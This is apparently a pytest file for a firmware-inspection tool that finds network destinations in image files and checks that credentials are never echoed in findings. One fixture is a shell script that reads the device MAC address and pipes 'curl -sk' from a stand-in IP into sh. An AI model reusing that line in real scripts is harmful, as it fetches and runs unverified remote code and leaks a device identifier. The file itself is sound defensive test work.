"""Findings of destinations answer every facet, quote what re-derives, and tell no secret."""

from pathlib import Path

from cupel.inspect.inspection import inspect
from cupel.records.finding import DESTINATION_FACETS, Finding
from made_image import examined


def destinations(folder: Path, files: dict[str, str]) -> list[Finding]:
    return [it for it in examined(folder, files).findings if it.kind == "destination"]


def test_every_finding_answers_every_facet_and_quotes_bytes_that_stand_there(tmp_path: Path) -> None:
    text = '#!/bin/sh\nMAC=$(cat /sys/class/net/eth0/address)\ncurl -sk "http://203.0.113.7:8081/in?m=$MAC" | sh\n'
    (finding,) = destinations(tmp_path, {"usr/sbin/watcher": text})
    assert tuple(it.name for it in finding.facets) == DESTINATION_FACETS
    assert all(it.reason for it in finding.facets)
    answers = {it.name: it.answer for it in finding.facets}
    assert (answers["encrypted"], answers["authenticated"], answers["sends an identity"]) == ("no", "no", "yes")
    assert finding.facts["address_kind"] == "documentation"
    assert finding.facts["certificate_check"] == "off"
    assert finding.facts["sends"] == "MAC address"
    place = finding.evidence[0]
    assert place.offset is not None
    assert text.encode()[place.offset : place.offset + place.size].decode() == place.quote


def test_credentials_of_a_destination_are_never_told(tmp_path: Path) -> None:
    secret = "Kq7Zp2Wn8"
    found = destinations(
        tmp_path,
        {
            "etc/config/agent": f"config a 'b'\n\toption url 'https://u:{secret}@agent.maker-site.net/in'\n",
            "usr/bin/send.sh": f"#!/bin/sh\ncurl -u me:{secret} ftp://files.maker-site.net/in\nwget ftp://a:{secret}@198.51.100.7/x\n",
            "etc/snmp/snmpd.conf": f"trapsink 198.51.100.1 {secret}\n",
        },
    )
    assert len(found) == 4
    assert secret not in repr(found)


def test_a_long_line_is_quoted_around_the_host(tmp_path: Path) -> None:
    text = "#!/bin/sh\n" + "a=1; " * 5000 + "wget http://late.maker-site.net/x\n"
    (finding,) = destinations(tmp_path, {"bin/long": text})
    assert "late.maker-site.net" in finding.evidence[0].quote


def test_hostile_texts_give_findings_or_nothing_but_no_failure(tmp_path: Path) -> None:
    files = {
        "etc/a.conf": "server = " + "a." * 200_000 + "\n",
        "etc/b.xml": "<!--" * 50_000 + '<a url="http://b.maker-site.net/x"' * 1000,
        "bin/c.sh": "#!/bin/sh\nwget http://" + "$(" * 50_000 + "\n",
        "etc/d.json": '{"url": "http://' + "%" * 300_000 + '"}',
        "etc/config/e": "config a\n" + "option url http://e.maker-site.net/x\n" * 5000,
    }
    inspection = examined(tmp_path, files)
    assert not [it for it in inspection.problems if "cannot be examined" in it.what]
    assert len([it for it in inspection.findings if it.path == "/etc/config/e"]) == 1


def test_of_a_real_image_no_namespace_is_told_and_every_question_is_answered(real_image) -> None:  # type: ignore[no-untyped-def]
    found = [
        it for it in inspect(real_image("lede-17.01.4-wr841v11.bin"), threads=1).findings if it.kind == "destination"
    ]
    assert {it.facts["role"] for it in found if "role" in it.facts} == {"packages", "ntp"}
    assert all([it.name for it in finding.facets] == list(DESTINATION_FACETS) for finding in found)
